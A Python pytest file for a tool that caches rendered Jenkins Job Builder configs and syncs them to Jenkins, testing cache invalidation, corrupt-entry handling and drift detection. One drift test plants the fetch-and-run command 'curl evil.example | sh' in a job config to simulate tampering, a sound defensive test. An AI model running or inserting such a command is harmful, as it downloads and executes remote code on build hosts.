"""render_cache.py: the rendering is reused only while every input is unchanged; Jenkins is still read."""

from __future__ import annotations

import json
import threading
import time

import pytest

from dindjobs.config import Settings
from dindjobs.errors import ConfigError, RenderError
from dindjobs.jobs import render as render_module
from dindjobs.jobs.render import render
from dindjobs.jobs.render_cache import cached_render, default_cache_dir
from dindjobs.jobs.sync_many import render_for_targets
from dindjobs.targets import Target
from support.cli import run_cli as run

JOBS = """
- job:
    name: team
    project-type: folder
- job-template:
    name: 'team/{component}-build'
    builders:
      - shell: !include-raw-verbatim: build.sh
- project:
    name: team
    component: [api, web]
    jobs: ['team/{component}-build']
- view:
    name: Team view
    view-type: list
    job-name: [team]
"""


@pytest.fixture
def tree(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)  # includes are also looked up relative to the working directory
    d = tmp_path / "yaml"
    d.mkdir()
    (d / "jobs.yaml").write_text(JOBS)
    (d / "build.sh").write_text("make build")
    return d


def cached(tree, cache, **kwargs):
    return cached_render([tree], cache_dir=cache, **kwargs)


def commands(rendered) -> set[str]:
    return {line.strip() for item in rendered.jobs for line in item.xml.splitlines() if "<command>" in line}


def test_a_hit_gives_what_jjb_renders_without_running_it(tree, tmp_path, monkeypatch):
    cache = tmp_path / "cache"
    first = cached(tree, cache)
    assert not first.cached and len(list(cache.glob("*.json"))) == 1

    def no_jjb(*args, **kwargs):
        raise AssertionError("JJB ran although nothing changed")

    monkeypatch.setattr("dindjobs.jobs.render_cache.render", no_jjb)
    second = cached(tree, cache)
    assert second.cached
    fresh = render([tree])
    assert [(i.kind, i.name, i.root_tag, i.source) for i in second.items] == \
        [(i.kind, i.name, i.root_tag, i.source) for i in fresh.items]
    assert [i.signature for i in second.items] == [i.signature for i in fresh.items]
    assert second.as_text() == fresh.as_text()  # the pretty XML (what is pushed) is rebuilt exactly


def test_a_changed_include_is_rendered_again(tree, tmp_path):
    cache = tmp_path / "cache"
    assert commands(cached(tree, cache)) == {"<command>make build</command>"}
    (tree / "build.sh").write_text("make build test")
    again = cached(tree, cache)
    assert not again.cached
    assert commands(again) == {"<command>make build test</command>"}
    assert cached(tree, cache).cached


def test_an_include_that_now_shadows_the_one_used_is_rendered_again(tree, tmp_path):
    cache = tmp_path / "cache"
    conf = tmp_path / "jjb.ini"
    shared = tmp_path / "shared"
    shared.mkdir()
    conf.write_text(f"[job_builder]\ninclude_path={shared}\n")
    assert commands(cached(tree, cache, conf_path=conf)) == {"<command>make build</command>"}
    (shared / "build.sh").write_text("make shared")  # earlier on the include path than the YAML's directory
    again = cached(tree, cache, conf_path=conf)
    assert not again.cached and commands(again) == {"<command>make shared</command>"}


def test_a_changed_ini_option_is_rendered_again_but_not_a_credential(tree, tmp_path):
    cache = tmp_path / "cache"
    conf = tmp_path / "jjb.ini"
    conf.write_text("[job_builder]\nkeep_descriptions=False\n[jenkins]\npassword=one\n")
    assert not cached(tree, cache, conf_path=conf).cached
    conf.write_text("[job_builder]\nkeep_descriptions=False\n[jenkins]\npassword=two\n")
    assert cached(tree, cache, conf_path=conf).cached  # [jenkins] never reaches JJB
    conf.write_text("[job_builder]\nkeep_descriptions=True\n[jenkins]\npassword=two\n")
    assert not cached(tree, cache, conf_path=conf).cached
    assert not any("two" in p.read_text() for p in cache.glob("*.json"))


def test_a_changed_yaml_file_or_a_new_one_is_rendered_again(tree, tmp_path):
    cache = tmp_path / "cache"
    cached(tree, cache)
    (tree / "jobs.yaml").write_text(JOBS.replace("[api, web]", "[api, web, cli]"))
    again = cached(tree, cache)
    assert not again.cached and len(again.jobs) == 4
    (tree / "more.yaml").write_text("- job:\n    name: more\n")
    again = cached(tree, cache)
    assert not again.cached and "more" in [i.name for i in again.jobs]


def test_a_jjb_version_change_is_rendered_again(tree, tmp_path, monkeypatch):
    cache = tmp_path / "cache"
    cached(tree, cache)
    assert cached(tree, cache).cached
    monkeypatch.setattr(render_module, "JJB_VERSION", render_module.JJB_VERSION + ".post1")
    assert not cached(tree, cache).cached


@pytest.mark.parametrize("damage", ["garbage", "truncated", "body edited", "foreign entry"])
def test_a_corrupt_or_foreign_entry_is_ignored_and_replaced(tree, tmp_path, damage):
    cache = tmp_path / "cache"
    expected = cached(tree, cache).as_text()
    (entry,) = cache.glob("*.json")
    data = entry.read_bytes()
    if damage == "garbage":
        entry.write_bytes(b"\x00not json at all")
    elif damage == "truncated":
        entry.write_bytes(data[: len(data) // 2])
    elif damage == "body edited":
        entry.write_bytes(data.replace(b"make build", b"make evil!"))
    else:  # a sound entry of another tree, under this tree's name
        other = tmp_path / "other"
        other.mkdir()
        (other / "o.yaml").write_text("- job:\n    name: other\n")
        cached(other, cache)
        (other_entry,) = set(cache.glob("*.json")) - {entry}
        entry.write_bytes(other_entry.read_bytes())
    again = cached(tree, cache)
    assert not again.cached and again.as_text() == expected
    assert cached(tree, cache).cached  # the damaged entry was replaced by a sound one


def test_entries_are_private_and_the_cache_stays_bounded(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    cache = tmp_path / "cache"
    for n in range(12):
        f = tmp_path / f"t{n}.yaml"
        f.write_text(f"- job:\n    name: job{n}\n")
        cached_render([f], cache_dir=cache)
    assert len(list(cache.glob("*.json"))) == 8
    assert cache.stat().st_mode & 0o077 == 0


def test_default_location_follows_xdg(tmp_path):
    assert default_cache_dir({"XDG_CACHE_HOME": str(tmp_path)}) == tmp_path / "dindjobs" / "render"


# --- through `dindjobs sync` against the stand-in ------------------------------------------------

def timings(err: str) -> dict:
    line = next(line for line in err.splitlines() if line.startswith("dindjobs timings: "))
    return json.loads(line.partition(": ")[2])


def test_sync_uses_the_cache_and_no_cache_skips_it(standin_env, tree, capsys):
    code, _, err = run(capsys, "sync", "--timings", str(tree))
    assert code == 0, err
    assert timings(err)["render_cached"] is False
    code, out, err = run(capsys, "sync", "--timings", str(tree))
    assert code == 0 and "In sync" in out
    assert timings(err)["render_cached"] is True
    code, _, err = run(capsys, "sync", "--timings", "--no-cache", str(tree))
    assert code == 0 and timings(err)["render_cached"] is False


def test_a_jenkins_edit_is_drift_on_a_cached_no_op(standin_env, standin_client, tree, capsys):
    assert run(capsys, "sync", str(tree))[0] == 0
    mark = len(standin_env.requests)
    code, _, err = run(capsys, "sync", "--plan", "--timings", str(tree))
    assert code == 0 and timings(err)["render_cached"] is True
    reads = [r.path for r in standin_env.requests[mark:] if r.path.endswith("/config.xml")]
    assert len(reads) == 4  # every config is still read from the server (3 jobs, 1 view)

    original = standin_client.get("job/team/job/api-build/config.xml").text
    edited = original.replace("make build", "curl evil.example | sh")
    assert standin_client.post("job/team/job/api-build/config.xml", data=edited.encode(),
                               headers={"Content-Type": "application/xml"}).status_code == 200
    code, out, err = run(capsys, "sync", "--plan", "--timings", str(tree))
    assert code == 2 and timings(err)["render_cached"] is True
    assert "drifted job team/api-build: changed in Jenkins since the last sync" in out
    assert "+      <command>make build</command>" in out
    code, _, err = run(capsys, "sync", "--timings", str(tree))
    assert code == 0 and timings(err)["render_cached"] is True
    assert "make build" in standin_client.get("job/team/job/api-build/config.xml").text


def test_config_reads_stay_within_read_workers(standin_env, tmp_path, capsys, monkeypatch):
    text = "".join(f"- job:\n    name: j{i}\n" for i in range(12))
    d = tmp_path / "many"
    d.mkdir()
    (d / "jobs.yaml").write_text(text)
    assert run(capsys, "sync", str(d))[0] == 0
    handle = standin_env.handle
    lock = threading.Lock()
    in_flight, most = [0], [0]

    def counted(req):
        if not req.raw_path.endswith("/config.xml"):
            return handle(req)
        with lock:
            in_flight[0] += 1
            most[0] = max(most[0], in_flight[0])
        try:
            time.sleep(0.02)  # long enough for the pool to pile up if it were unbounded
            return handle(req)
        finally:
            with lock:
                in_flight[0] -= 1

    monkeypatch.setattr(standin_env, "handle", counted)
    mark = len(standin_env.requests)
    code, out, err = run(capsys, "sync", "--read-workers", "3", str(d))
    assert code == 0 and "In sync" in out, err
    assert sum(r.path.endswith("/config.xml") for r in standin_env.requests[mark:]) == 12
    assert 1 <= most[0] <= 3


def test_an_unwritable_cache_only_costs_speed(tree, tmp_path):
    blocker = tmp_path / "not-a-directory"
    blocker.write_text("a file where the cache directory should be")
    first = cached(tree, blocker / "render")
    assert not first.cached and len(first.jobs) == 3
    assert not cached(tree, blocker / "render").cached


def test_a_changed_jinja2_include_is_rendered_again(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    d = tmp_path / "yaml"
    d.mkdir()
    (d / "jobs.yaml").write_text("- job:\n    name: j2\n    builders:\n"
                                 "      - shell: !j2: |\n          {% include 'step.j2' %}\n")
    (d / "step.j2").write_text("make one")
    cache = tmp_path / "cache"
    assert commands(cached(d, cache)) == {"<command>make one</command>"}
    assert cached(d, cache).cached
    (d / "step.j2").write_text("make two")
    again = cached(d, cache)
    assert not again.cached and commands(again) == {"<command>make two</command>"}


STAMPED = """
- job:
    name: stamped
    wrappers:
      - timestamps
    builders:
      - shell: 'true'
- job:
    name: piped
    project-type: pipeline
    dsl: "echo hello"
"""


def test_a_hit_keeps_the_plugins_each_item_needs(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    d = tmp_path / "yaml"
    d.mkdir()
    (d / "jobs.yaml").write_text(STAMPED)
    cache = tmp_path / "cache"
    fresh = cached(d, cache)
    hit = cached(d, cache)
    assert not fresh.cached and hit.cached
    needs = {i.name: i.plugins for i in hit.jobs}
    assert needs == {i.name: i.plugins for i in fresh.jobs}
    assert ("wrapper", "timestamps", "timestamper") in needs["stamped"]
    assert any(plugin.startswith("workflow") for _, _, plugin in needs["piped"])


VARS_YAML = """
- job-template:
    name: '{component}-deploy'
    builders:
      - shell: 'deploy to {env}'
- project:
    name: p
    component: [api]
    jobs: ['{component}-deploy']
"""


def test_different_target_variables_never_share_an_entry(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    d = tmp_path / "yaml"
    d.mkdir()
    (d / "jobs.yaml").write_text(VARS_YAML)
    cache = tmp_path / "cache"
    staging = cached(d, cache, variables={"env": "staging"})
    prod = cached(d, cache, variables={"env": "prod"})
    assert not staging.cached and not prod.cached
    assert commands(staging) == {"<command>deploy to staging</command>"}
    assert commands(prod) == {"<command>deploy to prod</command>"}
    again = cached(d, cache, variables={"env": "staging"})
    assert again.cached and commands(again) == {"<command>deploy to staging</command>"}
    assert len(list(cache.glob("*.json"))) == 2


def test_an_include_the_guard_refuses_is_still_recorded(tree, tmp_path):
    (tmp_path / "outside.sh").write_text("make outside")
    (tree / "jobs.yaml").write_text(JOBS.replace("build.sh", "../outside.sh"))
    seen = []
    with pytest.raises(RenderError, match="outside the job tree"):
        render([tree], on_include=seen.append)
    assert (tmp_path / "outside.sh").resolve() in {p.resolve() for p in seen}


def test_an_include_path_of_the_ini_is_allowed_and_its_change_renders_again(tree, tmp_path):
    shared = tmp_path / "shared"
    shared.mkdir()
    (shared / "common.sh").write_text("make common")
    (tree / "jobs.yaml").write_text(JOBS.replace("build.sh", "common.sh"))
    ini = tmp_path / "jjb.ini"
    ini.write_text(f"[job_builder]\ninclude_path = {shared}\n")
    cache = tmp_path / "cache"
    assert commands(cached(tree, cache, conf_path=ini)) == {"<command>make common</command>"}
    assert cached(tree, cache, conf_path=ini).cached
    (shared / "common.sh").write_text("make other")
    again = cached(tree, cache, conf_path=ini)
    assert not again.cached and commands(again) == {"<command>make other</command>"}


def test_a_bad_ini_is_reported_with_its_line(tree, tmp_path):
    ini = tmp_path / "jjb.ini"
    ini.write_text("keep_descriptions = true\n[job_builder]\n")
    with pytest.raises(ConfigError, match=r"jjb\.ini:1: a setting before any \[section\] header"):
        cached(tree, tmp_path / "cache", conf_path=ini)


def test_multi_target_renders_come_from_the_cache_one_entry_per_set_of_vars(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "xdg"))
    d = tmp_path / "yaml"
    d.mkdir()
    (d / "jobs.yaml").write_text(VARS_YAML)
    settings = Settings(url="http://unused/")
    targets = [Target("staging", settings, (("env", "staging"),)), Target("prod", settings, (("env", "prod"),)),
               Target("also-prod", settings, (("env", "prod"),))]
    first = render_for_targets(targets, [d])
    assert {v: commands(r) for v, r in first.items()} == {
        (("env", "staging"),): {"<command>deploy to staging</command>"},
        (("env", "prod"),): {"<command>deploy to prod</command>"}}
    again = render_for_targets(targets, [d])
    assert all(r.cached for r in again.values()) and not any(r.cached for r in first.values())
    assert {v: commands(r) for v, r in again.items()} == {v: commands(r) for v, r in first.items()}
    assert not any(r.cached for r in render_for_targets(targets, [d], use_cache=False).values())
